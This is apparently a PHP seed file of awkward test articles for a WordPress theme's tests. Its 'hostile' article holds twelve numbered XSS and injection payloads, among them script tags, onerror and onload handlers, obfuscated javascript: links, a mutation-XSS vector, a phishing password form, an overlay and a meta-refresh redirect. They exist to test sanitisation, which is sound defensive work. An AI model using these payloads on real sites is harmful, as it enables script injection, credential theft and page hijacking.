<?php
// Articles that are awkward on purpose. Keyed by the name that tests use.

function newsprint_seed_special_posts() {
	$plain = newsprint_seed_paragraphs( [
		'The council meets on Tuesday. The agenda is short, and the chamber will be open to everybody from six o’clock.',
		'Minutes appear within a week, on paper in the hall and online.',
	] );
	return [
		'quiet'        => [ 'title' => 'Bench by the lock gets a new coat of paint' ],
		'moderated'    => [ 'title' => 'Swing bridge half open after repairs' ],
		'entities'     => [ 'title' => 'Fish &amp; Chips &#8211; “quotes” <em>' ],
		'untitled'     => [ 'title' => '' ],
		'arabic'       => [
			'title'   => 'العبّارة القديمة تصبح مكتبة عائمة',
			'content' => newsprint_seed_paragraphs( [
				'افتُتحت في ميناء المدينة مكتبة عامة على متن عبّارة قديمة بعد عامين من الانتظار.',
				'يقول أمين المكتبة إن عدد الزوار في اليوم الأول بلغ 1200 زائر، وإن <a href="https://saltmarsh.example/">البرنامج</a> يشمل رحلات إلى الجزر.',
			] ),
			'excerpt' => 'مكتبة عامة تفتح أبوابها على الماء.',
		],
		'closed'       => [ 'title' => 'Comments on last year’s parade are closed', 'comments' => 'closed' ],
		'protected'    => [ 'title' => 'For subscribers: the harbour plan in full', 'password' => 'secret' ],
		'noImage'      => [ 'title' => 'Low water on Friday, boats leave earlier', 'image' => false ],
		'missingImage' => [ 'title' => 'Photo exhibition opens without its photos', 'image' => 'missing' ],
		'hostile'      => [ 'title' => 'Article that tries to run code', 'content' => newsprint_seed_hostile_body() ],
		'draft'        => [ 'title' => 'Draft: not yet ready', 'status' => 'draft' ],
		'private'      => [ 'title' => 'Private: for the desk only', 'status' => 'private' ],
		'sticky'       => [ 'title' => 'How to reach the newsroom' ],
	] + [ 'default' => [ 'content' => $plain ] ];
}

// Each attempt sets a number, so that a test can tell which one got through. In a block, because WordPress
// would otherwise put paragraphs around the lines and blunt some of them.
function newsprint_seed_hostile_body() {
	return <<<'HTML'
<!-- wp:html -->
<p>Before the attempts.</p>
<script>window.__newsprintHacked = 1</script>
<p><img src="/nothing-here.png" alt="broken" onerror="window.__newsprintHacked = 2"></p>
<p><a href="javascript:window.__newsprintHacked=3">a script link</a> <a href="&#106;ava&#x0A;script:window.__newsprintHacked=4">a disguised one</a> <a href="data:text/html,&lt;script&gt;opener.__newsprintHacked=5&lt;/script&gt;">a data link</a></p>
<iframe src="https://embed.example/video" srcdoc="&lt;script&gt;parent.__newsprintHacked = 6&lt;/script&gt;"></iframe>
<style>body { display: none !important } p { background: url(https://track.example/pixel) }</style>
<svg onload="window.__newsprintHacked = 7"><a xlink:href="javascript:window.__newsprintHacked=8"><text y="10">svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src="/nothing-here.png" onerror="window.__newsprintHacked = 9"></style></mglyph></table></mtext></math>
<form action="https://phish.example/"><input name="password" placeholder="Password"><button>Log in</button></form>
<p id="hijack" style="position: fixed; inset: 0; z-index: 99999" onclick="window.__newsprintHacked = 10">Overlay</p>
<object data="javascript:window.__newsprintHacked=11"></object><embed src="javascript:window.__newsprintHacked=12">
<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/">
<p>After the attempts.</p>
<!-- /wp:html -->
HTML;
}
